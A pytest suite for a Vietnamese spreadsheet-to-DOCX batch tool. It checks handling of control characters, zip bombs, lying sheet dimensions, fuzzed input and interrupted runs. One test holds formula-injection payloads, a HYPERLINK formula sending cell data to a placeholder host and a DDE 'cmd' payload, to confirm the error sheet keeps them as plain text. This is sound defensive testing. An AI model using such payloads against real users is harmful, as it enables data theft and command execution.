"""Hostile spreadsheets and interrupted runs: each test asserts an invariant of the batch.

Invariants: every DOCX written is well-formed (each XML part parses), a bad input is
a located Vietnamese error, nothing is half-written, and a re-run converges to
exactly the files of the new input.
"""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from congvan.batch import rows as rows_module
from congvan.batch.dot import load_dot
from congvan.batch.output import safe_name
from congvan.batch.run import BatchOptions, run_batch
from congvan.batch.sample_data import HEADERS, families, write_csv, write_xlsx
from congvan.errors import CongvanError
from test_batch import DOT

ROOT = Path(__file__).resolve().parents[1]
NAME = "Họ và tên chủ hộ"


def assert_valid_docx(path: Path) -> None:
    """A complete ZIP whose every XML part parses."""
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None, path
        for name in zf.namelist():
            if name.endswith((".xml", ".rels")):
                etree.fromstring(zf.read(name))


def all_outputs_valid(folder: Path) -> int:
    docs = [p for p in folder.rglob("*.docx") if not p.name.startswith(".")]
    for doc in docs:
        assert_valid_docx(doc)
    assert not list(folder.rglob("*.part")), "half-written file left behind"
    return len(docs)


def _csv(path: Path, rows: list[list[object]], headers: list[str] = HEADERS) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(headers)
        writer.writerows(rows)
    return path


def _row(name: str = "Nguyễn Văn An", address: str = "Thôn Đông", **extra: object) -> list[object]:
    values = {"stt": "", "name": name, "gender": "Nam", "year": 1970, "address": address, "members": 4,
              "phone": "", "amount": "", "note": ""} | extra  # fmt: skip
    return list(values.values())


# --- characters XML cannot hold -------------------------------------------------------------


def test_control_character_refused_with_row_and_column_and_nothing_written(tmp_path: Path) -> None:
    sheet = _csv(tmp_path / "a.csv", [_row(), _row("Lê Thị\x07 Bé"), _row("Trần \ufffe Văn")])
    with pytest.raises(CongvanError) as exc:
        run_batch(BatchOptions(data=sheet, outdir=tmp_path / "o", dot=DOT, progress=False))
    text = str(exc.value)
    assert f"dòng 3: cột '{NAME}': có ký tự điều khiển U+0007" in text
    assert f"dòng 4: cột '{NAME}': có ký tự điều khiển U+FFFE" in text
    assert sorted(p.name for p in (tmp_path / "o").iterdir()) == ["dong_loi.xlsx"]
    ws = openpyxl.load_workbook(tmp_path / "o" / "dong_loi.xlsx").active  # the error sheet itself opens
    assert "Lê Thị[U+0007] Bé" in [c for r in ws.iter_rows(values_only=True) for c in r]


def test_control_character_rows_skipped_leave_valid_documents(tmp_path: Path) -> None:
    sheet = _csv(tmp_path / "a.csv", [_row(), _row("Lê Thị\x0b Bé"), _row("Phạm Văn Cường", "Xóm \x1f3")])
    out = tmp_path / "o"
    report = run_batch(BatchOptions(data=sheet, outdir=out, dot=DOT, skip_bad=True, progress=False))
    assert (report.stats.good, report.stats.bad) == (1, 2)
    assert all_outputs_valid(out) == 3  # decision, merged certificates, one per-row certificate


def test_control_character_in_round_file_located(tmp_path: Path) -> None:
    dot = tmp_path / "dot.yaml"
    dot.write_text('co_quan: "UBND xã\\x07 An Bình"\ndia_danh: An Bình\nnam: 2026\n', encoding="utf-8")
    with pytest.raises(CongvanError, match=r"dot.yaml, dòng 1, trường 'co_quan': có ký tự điều khiển U\+0007"):
        load_dot(dot)


# --- the error sheet is inert ---------------------------------------------------------------------


def test_error_sheet_cells_are_text_never_formulas(tmp_path: Path) -> None:
    payloads = ['=HYPERLINK("http://x.example/?a="&A1,"bấm")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"]
    sheet = _csv(tmp_path / "a.csv", [_row(p, year="19x0") for p in payloads])
    out = tmp_path / "o"
    with pytest.raises(CongvanError):
        run_batch(BatchOptions(data=sheet, outdir=out, dot=DOT, progress=False))
    with zipfile.ZipFile(out / "dong_loi.xlsx") as zf:
        sheet_xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    ws = openpyxl.load_workbook(out / "dong_loi.xlsx").active
    names = [r[2] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert names == payloads
    assert {c.data_type for r in ws.iter_rows() for c in r if c.value is not None} == {"s"}


# --- limits before reading -----------------------------------------------------------------------


def test_far_cell_xlsx_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "xa.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(HEADERS)
    ws["XFD1048576"] = "x"
    book.save(path)
    assert path.stat().st_size < 10_000
    with pytest.raises(CongvanError, match=r"cột XFD \(16\.384 cột\), vượt giới hạn 256 cột"):
        run_batch(BatchOptions(data=path, outdir=tmp_path / "o", dot=DOT, progress=False))


def test_lying_dimension_neither_hangs_nor_drops_rows(tmp_path: Path) -> None:
    path = tmp_path / "dim.xlsx"
    write_xlsx(path, HEADERS, families(12))
    _rewrite_sheet(path, lambda xml: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:B2"/>', xml))
    report = run_batch(BatchOptions(data=path, outdir=tmp_path / "o", dot=DOT, mode="gop", progress=False))
    assert report.stats.good == 12


def test_cell_count_limit_holds_while_streaming_when_dimension_lies(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "many.xlsx"
    write_xlsx(path, HEADERS, families(200))
    _rewrite_sheet(path, lambda xml: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:B2"/>', xml))
    monkeypatch.setattr(rows_module, "MAX_CELLS", 1000)  # 201 rows x 9 columns: past it at row 112
    with pytest.raises(CongvanError, match=r"many.xlsx, dòng 112: trang tính có hơn 1\.000 ô"):
        run_batch(BatchOptions(data=path, outdir=tmp_path / "o", dot=DOT, progress=False))
    assert not (tmp_path / "o").exists()


def test_zip_bomb_refused_by_uncompressed_size(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "bom.xlsx"
    write_xlsx(path, HEADERS, families(3))
    _rewrite_sheet(path, lambda xml: xml.replace(b"</sheetData>", b" " * 3_000_000 + b"</sheetData>"))
    assert path.stat().st_size < 200_000
    monkeypatch.setattr(rows_module, "MAX_UNCOMPRESSED", 2 * 2**20)  # the mechanism, at a test's scale
    with pytest.raises(CongvanError, match=r"khi giải nén lớn 2 MB, vượt giới hạn 2 MB"):
        run_batch(BatchOptions(data=path, outdir=tmp_path / "o", dot=DOT, progress=False))


def test_csv_cell_over_the_limit_is_a_located_message(tmp_path: Path) -> None:
    sheet = _csv(tmp_path / "a.csv", [_row(), _row(note="x" * 131_073)])
    with pytest.raises(CongvanError, match=r"a.csv, dòng 3: có ô dài hơn 131\.072 ký tự"):
        run_batch(BatchOptions(data=sheet, outdir=tmp_path / "o", dot=DOT, progress=False))


# --- no silent wrong data --------------------------------------------------------------------------


def test_duplicate_headers_refused_as_ambiguous(tmp_path: Path) -> None:
    headers = [*HEADERS, NAME]
    sheet = _csv(tmp_path / "a.csv", [[*_row(), "Người khác"]], headers)
    with pytest.raises(CongvanError, match=rf"tiêu đề '{NAME}' xuất hiện ở 2 cột \(B, J\)"):
        run_batch(BatchOptions(data=sheet, outdir=tmp_path / "o", dot=DOT, progress=False))
    assert not (tmp_path / "o").exists()


def test_csv_rows_numbered_as_the_spreadsheet_shows_them(tmp_path: Path) -> None:
    rows = [_row(address="Thôn Đông\nxã An Bình\ntỉnh Ninh Bình"), _row(address="Xóm 1\nThôn 2"), _row(year="19x5")]
    sheet = _csv(tmp_path / "a.csv", rows)
    with pytest.raises(CongvanError, match=r"a.csv, dòng 4: cột 'Năm sinh'"):
        run_batch(BatchOptions(data=sheet, outdir=tmp_path / "o", dot=DOT, progress=False))


def test_formula_without_cached_value_reported(tmp_path: Path) -> None:
    path = tmp_path / "f.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(HEADERS)
    ws.append([1, "Nguyễn Văn An", "Nam", 1970, "Thôn Đông", 4, None, None, None])
    ws.append([2, '=UPPER("lê thị bé")', "Nữ", 1975, "Thôn Tây", 3, None, None, None])
    book.save(path)  # openpyxl stores formulas without a computed value, as some exporters do
    with pytest.raises(CongvanError, match=rf"dòng 3: cột '{NAME}': ô có công thức nhưng chưa có giá trị"):
        run_batch(BatchOptions(data=path, outdir=tmp_path / "o", dot=DOT, progress=False))


def test_phone_number_stored_as_a_number_is_text(tmp_path: Path) -> None:
    path = tmp_path / "p.xlsx"
    write_xlsx(path, HEADERS, iter([[1, "Nguyễn Văn An", "Nam", 1970, "Thôn Đông", 4, 912345678, None, None]]))
    out = tmp_path / "o"
    run_batch(BatchOptions(data=path, outdir=out, dot=DOT, mode="gop", documents=["dang-ky"], progress=False))
    with zipfile.ZipFile(out / "dang_ky_tat_ca.docx") as zf:
        assert "0912345678" in zf.read("word/document.xml").decode()


def test_round_file_duplicate_key_refused(tmp_path: Path) -> None:
    dot = tmp_path / "dot.yaml"
    dot.write_text("co_quan: UBND xã An Bình\ndia_danh: An Bình\nnam: 2026\nnam: 2027\n", encoding="utf-8")
    with pytest.raises(CongvanError, match=r"dot.yaml, dòng 4, trường 'nam': khóa 'nam' bị lặp lại \(đã có ở dòng 3\)"):
        load_dot(dot)


# --- re-runs converge -------------------------------------------------------------------------------


def test_rerun_with_a_row_removed_leaves_exactly_the_new_set(tmp_path: Path) -> None:
    rows = list(families(40))
    sheet = tmp_path / "a.csv"
    write_csv(sheet, HEADERS, iter(rows))
    out = tmp_path / "o"
    options = BatchOptions(data=sheet, outdir=out, dot=DOT, mode="tung-dong", documents=["giay-cong-nhan"],
                           progress=False)  # fmt: skip
    run_batch(options)
    folder = out / "giay_cong_nhan"
    before = sorted(p.name for p in folder.glob("*.docx"))
    (folder / "ghi chú của tôi.txt").write_text("không phải của congvan", encoding="utf-8")
    (out / ".giay_cong_nhan_tat_ca.docx.x1y2.part").write_bytes(b"PK half")  # a killed merged write
    gone = rows.pop(20)
    write_csv(sheet, HEADERS, iter(rows))
    report = run_batch(options)
    after = sorted(p.name for p in folder.glob("*.docx"))
    # Rows after the removed one move up one place in the list, so their number (and
    # "Số vào sổ") changes: their old files are replaced, the rest are kept as they are.
    assert len(after) == 39
    assert report.skipped_existing == 20 and report.removed_stale == 20
    assert before[:20] == after[:20]  # names do not depend on the row count
    gone_name = safe_name(str(gone[1]))
    assert sum(gone_name in n for n in after) == sum(gone_name in n for n in before) - 1
    journal = (folder / ".congvan-batch.tsv").read_text(encoding="utf-8").splitlines()
    assert sorted(line.split("\t")[0] for line in journal) == after
    assert (folder / "ghi chú của tôi.txt").exists()
    assert not list(out.rglob("*.part"))
    all_outputs_valid(out)


def test_error_sheet_of_an_earlier_run_removed_once_the_data_is_fixed(tmp_path: Path) -> None:
    sheet = _csv(tmp_path / "a.csv", [_row(), _row(year="19x5")])
    out = tmp_path / "o"
    with pytest.raises(CongvanError):
        run_batch(BatchOptions(data=sheet, outdir=out, dot=DOT, progress=False))
    assert (out / "dong_loi.xlsx").exists()
    _csv(sheet, [_row(), _row(year=1975)])
    run_batch(BatchOptions(data=sheet, outdir=out, dot=DOT, progress=False))
    assert not (out / "dong_loi.xlsx").exists()


# --- fuzzed spreadsheets ------------------------------------------------------------------------------

_ALPHABET = [*"aăâbcdđeêghiklmnoôơpqrstuưvxyAĐÊ &<>\"';:=+-@\n\t,.…“”", "\x00", "\x07", "\ufffe"]
_cell_text = st.text(alphabet=st.sampled_from(_ALPHABET), max_size=40)
_cell = st.one_of(st.none(), _cell_text, st.integers(-10, 3000), st.floats(allow_nan=True, allow_infinity=True))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(_cell, min_size=0, max_size=11), min_size=0, max_size=8), as_xlsx=st.booleans())
def test_fuzzed_sheets_give_valid_documents_or_a_located_error(
    tmp_path: Path, rows: list[list[object]], as_xlsx: bool
) -> None:
    case = Path(tempfile_dir(tmp_path))
    if as_xlsx:
        path = case / "f.xlsx"
        book = openpyxl.Workbook()
        ws = book.active
        ws.append(HEADERS)
        for row in rows:
            ws.append([_xlsx_safe(v) for v in row])
        book.save(path)
    else:
        path = _csv(case / "f.csv", [["" if v is None else v for v in row] for row in rows])
    out = case / "o"
    try:
        report = run_batch(BatchOptions(data=path, outdir=out, dot=DOT, skip_bad=True, progress=False))
    except CongvanError as exc:
        assert exc.problems and all(p.file for p in exc.problems), exc
        assert not out.exists() or {p.name for p in out.iterdir()} <= {"dong_loi.xlsx"}
        return
    assert all_outputs_valid(out) == 2 + report.stats.good


def tempfile_dir(parent: Path) -> str:
    import tempfile

    return tempfile.mkdtemp(dir=parent)


def _xlsx_safe(value: object) -> object:
    """openpyxl refuses control characters on write; a spreadsheet app would store them escaped."""
    if isinstance(value, str):
        return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe]", "", value)
    return value


# --- a kill in the middle --------------------------------------------------------------------------------


@pytest.mark.slow
def test_sigkill_during_batch_leaves_only_complete_files_and_rerun_converges(tmp_path: Path) -> None:
    rows = 300
    sheet = tmp_path / "a.csv"
    write_csv(sheet, HEADERS, families(rows))
    dot = ROOT / "records" / "batch" / "dot_2026.yaml"
    out = tmp_path / "o"
    command = [sys.executable, "-m", "congvan", "batch", str(sheet), "--thong-tin", str(dot), "-o", str(out),
               "--van-ban", "giay-cong-nhan", "--che-do", "tung-dong"]  # fmt: skip
    proc = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list((out / "giay_cong_nhan").glob("*.docx"))) < 30:
        time.sleep(0.01)
    os.kill(proc.pid, signal.SIGKILL)
    assert proc.wait() == -signal.SIGKILL
    visible = [d for d in out.rglob("*.docx") if not d.name.startswith(".")]
    assert len(visible) < rows  # really interrupted
    for doc in visible:
        assert_valid_docx(doc)  # whatever is visible is whole
    subprocess.run(command, check=True, capture_output=True)
    assert len(list((out / "giay_cong_nhan").glob("*.docx"))) == rows
    assert all_outputs_valid(out) == rows


def _rewrite_sheet(path: Path, change) -> None:  # type: ignore[no-untyped-def]
    data = io.BytesIO(path.read_bytes())
    with zipfile.ZipFile(data) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            blob = src.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                blob = change(blob)
            dst.writestr(info, blob, compress_type=zipfile.ZIP_DEFLATED)
